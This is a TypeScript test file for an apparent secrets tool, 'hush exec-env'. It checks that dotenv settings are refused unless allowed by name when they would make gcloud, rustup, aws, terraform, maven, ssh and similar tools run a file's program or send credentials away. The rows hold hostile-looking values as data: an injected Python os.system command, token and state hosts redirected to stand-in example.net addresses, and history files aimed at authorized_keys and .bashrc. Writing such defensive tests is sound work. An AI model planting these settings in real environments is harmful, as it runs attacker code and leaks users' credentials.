import { existsSync, readFileSync, rmSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encryptFile, keyedDir, type KeyedDir } from "./helpers.ts";

/**
 * Settings of common tools that a file, which anyone who can encrypt to it may write, would hand
 * to the command through `hush exec-env` (and the Node loader, which uses the same rules). Each
 * row was seen, with the real tool on a machine that had it (2026-12-06: gcloud, pyenv, rustup
 * 1.28 with cargo 1.95, aws CLI v1 on botocore, psql 15 against a PostgreSQL server, Terraform,
 * Maven 3.8, wget 1.21), to run the file's program or send the caller's credentials when
 * allowed; AWS_PAGER's row was read in the aws CLI v2's source (the CLI there was v1). Those tools are not ones a fresh machine gets from the project's registries, so the
 * command here is a stand-in that records that it ran and what it was given: refused, it never
 * runs and the one line names each variable with its `--allow-env`; allowed, the values reach it.
 */

interface ToolSetting {
  /** What the real tool did with the variables. */
  readonly seen: string;
  /** The file's lines (dotenv). */
  readonly lines: string;
  /** The variables refused, in the order the message names them. */
  readonly names: readonly string[];
}

const TOKEN = "tok-5be1c0de-tool-settings";

const SETTINGS: readonly ToolSetting[] = [
  {
    seen: "gcloud and google-auth-library ran the program an external-account credential file committed beside it names",
    lines: "GOOGLE_APPLICATION_CREDENTIALS=gcp.json\nGOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES=1\n",
    names: ["GOOGLE_APPLICATION_CREDENTIALS", "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES"],
  },
  {
    seen: "gcloud sent the user's refresh token and client secret to the token host, plain http included",
    lines: "CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE=gcp.json\nCLOUDSDK_AUTH_TOKEN_HOST=http://tokens.example.net/token\n",
    names: ["CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE", "CLOUDSDK_AUTH_TOKEN_HOST"],
  },
  {
    seen: "gcloud's wrapper passed the arguments to Python, which ran the -c code in every gcloud command",
    lines: "CLOUDSDK_PYTHON_ARGS=-c__import__('os').system('id')\n",
    names: ["CLOUDSDK_PYTHON_ARGS"],
  },
  {
    seen: "every pyenv shim (python3, pip, aws) sourced the repository's hook scripts first",
    lines: "PYENV_HOOK_PATH=hooks\n",
    names: ["PYENV_HOOK_PATH"],
  },
  {
    seen: "in a repository that pins a toolchain, cargo --version downloaded it from the file's server, and rustup runs it",
    lines: "RUSTUP_DIST_SERVER=http://dist.example.net\nRUSTUP_AUTO_INSTALL=1\n",
    names: ["RUSTUP_DIST_SERVER", "RUSTUP_AUTO_INSTALL"],
  },
  {
    seen: "botocore (aws, boto3) took endpoint rules from there and sent the signed request and session token to the file's server",
    lines: "AWS_DATA_PATH=aws-data\n",
    names: ["AWS_DATA_PATH"],
  },
  {
    seen: "psql -c with the file's DATABASE_URL ran the \\! shell command of the repository's start-up file",
    lines: "DATABASE_URL=postgres://app@db/app\nPSQLRC=deploy.psqlrc\n",
    names: ["PSQLRC"],
  },
  {
    seen: "terraform plan read the state, which holds every secret it manages, from the backend recorded in that directory",
    lines: "TF_DATA_DIR=committed-data\n",
    names: ["TF_DATA_DIR"],
  },
  {
    seen: "mvn took JVM options, a -javaagent among them, from .mvn/jvm.config in that directory",
    lines: "MAVEN_BASEDIR=tools\n",
    names: ["MAVEN_BASEDIR"],
  },
  {
    seen: "mvn put them on the java command line beside MAVEN_OPTS, and Java loaded the -javaagent they named",
    lines: "MAVEN_DEBUG_OPTS=-javaagent:tools/agent.jar\n",
    names: ["MAVEN_DEBUG_OPTS"],
  },
  {
    seen: "at a terminal, less 590 replaced a 3,000-line file with its own 3-line history when it quit (git log's pager), bash 5.2 cut one to 500 lines, Node's REPL to 999",
    lines: "LESSHISTFILE=.ssh/authorized_keys\nHISTFILE=.bashrc\nNODE_REPL_HISTORY=.profile\n",
    names: ["LESSHISTFILE", "HISTFILE", "NODE_REPL_HISTORY"],
  },
  {
    seen: "IPython 8.12 ran the scripts in profile_default/startup and the ipython_config.py of the directory it named",
    lines: "IPYTHONDIR=notebooks/.ipython\n",
    names: ["IPYTHONDIR"],
  },
  {
    seen: "@actions/core 3.0.1's getIDToken, as a deploy script in GitHub Actions calls it for a cloud role, sent the job's ACTIONS_ID_TOKEN_REQUEST_TOKEN to that address (plain http too), with which the holder gets the workflow's OIDC tokens",
    lines: "ACTIONS_ID_TOKEN_REQUEST_URL=http://oidc.example.net/token?api-version=2.0\n",
    names: ["ACTIONS_ID_TOKEN_REQUEST_URL"],
  },
  {
    seen: "the docker CLI 28.2 took the CA it trusts for a TLS daemon (dind in CI: DOCKER_HOST=tcp://docker:2376) from that directory; the requests to the daemon carry registry credentials",
    lines: "DOCKER_CERT_PATH=ci/certs\n",
    names: ["DOCKER_CERT_PATH"],
  },
  {
    seen: "OpenSSH 9.2's ssh-keygen loaded the library it named for a security key and ran its code (ssh does for a FIDO key's login: git push over ssh)",
    lines: "SSH_SK_PROVIDER=tools/libsk.so\n",
    names: ["SSH_SK_PROVIDER"],
  },
  {
    seen: "OpenSSH 9.2's ssh-keygen -t ed25519-sk ran the program it named in place of its own ssh-sk-helper (ssh and ssh-agent start the helper to sign with a security key)",
    lines: "SSH_SK_HELPER=tools/sk-helper\n",
    names: ["SSH_SK_HELPER"],
  },
  {
    seen: "wget sent the request and the caller's Basic credentials through the proxy of that start-up file",
    lines: "SYSTEM_WGETRC=ci.wgetrc\n",
    names: ["SYSTEM_WGETRC"],
  },
  {
    seen: "terraform plan, with no init, connected to the file's address for the provider it names instead of starting the provider, as a provider that gets the configuration and every resource's state",
    lines: 'TF_REATTACH_PROVIDERS={"registry.terraform.io/hashicorp/aws":{"Protocol":"grpc","ProtocolVersion":5,"Pid":1,"Test":true,"Addr":{"Network":"tcp","String":"tf.example.net:4000"}}}\n',
    names: ["TF_REATTACH_PROVIDERS"],
  },
  {
    seen: "terraform init with an http backend whose address is left to the environment (GitLab's managed state) sent the state request and the caller's TF_HTTP_PASSWORD to the file's address",
    lines: "TF_HTTP_ADDRESS=http://state.example.net/tf\nTF_HTTP_LOCK_ADDRESS=http://state.example.net/lock\n",
    names: ["TF_HTTP_ADDRESS", "TF_HTTP_LOCK_ADDRESS"],
  },
  {
    seen: "the aws CLI v2 splits its pager setting into words and runs it with every command's output, secrets it fetched included (from its source, awscli/utils.py; the aws CLI here is v1)",
    lines: "AWS_PAGER=tee aws-output.txt\n",
    names: ["AWS_PAGER"],
  },
];

describe("hush exec-env: tool settings that run a file's program or send credentials away", () => {
  let k: KeyedDir;
  beforeAll(() => {
    k = keyedDir();
  });
  afterAll(() => k.cleanup());

  /** The stand-in command: records that it ran, and the refused variables' values it was given. */
  function command(names: readonly string[]): string[] {
    const script = `require("node:fs").writeFileSync(${JSON.stringify(k.path("ran.json"))}, JSON.stringify(${JSON.stringify(names)}.map((n) => process.env[n])))`;
    return [process.execPath, "-e", script];
  }

  it.each(SETTINGS.map((s, i) => [s.names.join(" and "), s, i] as const))("%s: refused before the command starts", (_label, setting, i) => {
    const file = encryptFile(k, `tool-${i}.env`, `${setting.lines}API_TOKEN=${TOKEN}\n`);
    rmSync(k.path("ran.json"), { force: true });
    const refused = k.hush(["exec-env", file, "--", ...command(setting.names)]);
    expect(refused.status, refused.stderr).toBe(1);
    expect(refused.stderr.trim().split("\n")).toHaveLength(1);
    expect(refused.stderr).toContain(setting.names.map((n) => `--allow-env ${n}`).join(" "));
    // Names only: no value of the file, neither the setting nor the secret beside it.
    expect(refused.stderr).not.toMatch(/tok-|example\.net|gcp\.json|hooks|aws-data|psqlrc|committed-data|tools|wgetrc|__import__|aws-output|authorized_keys|bashrc|profile|ipython|certs|libsk/);
    expect(existsSync(k.path("ran.json")), setting.seen).toBe(false);

    // What the refusal prevents: allowed by name, the values reach the command (`seen` says what
    // the real tool then did).
    const allowed = k.hush(["exec-env", ...setting.names.flatMap((n) => ["--allow-env", n]), file, "--", ...command(setting.names)]);
    expect(allowed.status, allowed.stderr).toBe(0);
    const expected = setting.names.map((n) => new RegExp(`^${n}=(.*)$`, "m").exec(setting.lines)?.[1]);
    expect(JSON.parse(readFileSync(k.path("ran.json"), "utf8"))).toEqual(expected);
  });
});
